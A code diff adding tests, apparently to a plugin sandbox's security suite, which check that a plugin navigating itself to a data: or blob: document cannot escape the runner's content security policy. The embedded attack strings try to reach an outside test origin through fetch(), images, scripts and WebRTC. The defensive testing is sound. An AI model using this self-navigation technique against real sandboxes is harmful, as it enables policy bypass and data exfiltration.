@@ -388,6 +388,31 @@ const sdkReady = pluginWarden.connect();
   assert.deepEqual(byOrigin(hits(run)), {}, `reached: ${JSON.stringify(seen)}`);
 });
 
+// The runner frame has no `csp` attribute (its page enforces its own policy): a bundle that
+// navigates itself to a document of its own making, which makes no request to be seen, must
+// not get a document without that policy. A data: or blob: document inherits its initiator's
+// policies (the runner's and the mount's), so its inline script, its script of the plugin's
+// blob: URL, its image and its WebRTC all stay put; and the plugin is failed as navigated.
+for (const scheme of ['data', 'blob']) {
+  test(`a bundle plugin that navigates itself to a ${scheme}: document of its own gets no document free of the runner's policy: nothing of it reaches anywhere, and it is failed`, async () => {
+    counter += 1;
+    const run = runId(`nav-${scheme}`);
+    const u = (channel, ext) => sinkUrl(env.servers.unrelatedOrigin, channel, ext, run, 'unrelated');
+    const code = `${ATTACK}
+const sdk = await pluginWarden.connect();
+const inner = (s) => '<p>navigated</p><img src="${u('nav-img', '.png')}"><script src="' + s + '"><\\/script><script>'
+  + "fetch('${u('nav-fetch', '.json')}', { mode: 'no-cors' });" + webrtcSource('${u('nav-webrtc', '')}') + '<\\/script>';
+const script = URL.createObjectURL(new Blob([webrtcSource('${u('nav-blob-script-webrtc', '')}') + "fetch('${u('nav-blob-script-fetch', '.json')}', { mode: 'no-cors' });"], { type: 'text/javascript' }));
+await sdk.events.emit('egress-navigating', {});
+location.href = ${scheme === 'data'
+    ? "'data:text/html,' + encodeURIComponent(inner(script))"
+    : "URL.createObjectURL(new Blob([inner(script)], { type: 'text/html' }))"};`;
+    await checkSelfNavigation({ manifest: manifest(`egress-nav-${scheme}-${counter}`), install: { code }, mount: { mode: 'iframe', timeout: 20_000 } });
+    await new Promise((res) => setTimeout(res, SETTLE_MS));
+    assert.deepEqual(byOrigin(hits(run)), {});
+  });
+}
+
 test('a plugin page served without Allow-CSP-From is refused quickly: MOUNT_FAILED naming the header', async () => {
   counter += 1;
   const cfg = { run: runId('careless'), targets: origins(), settleMs: 1500 };
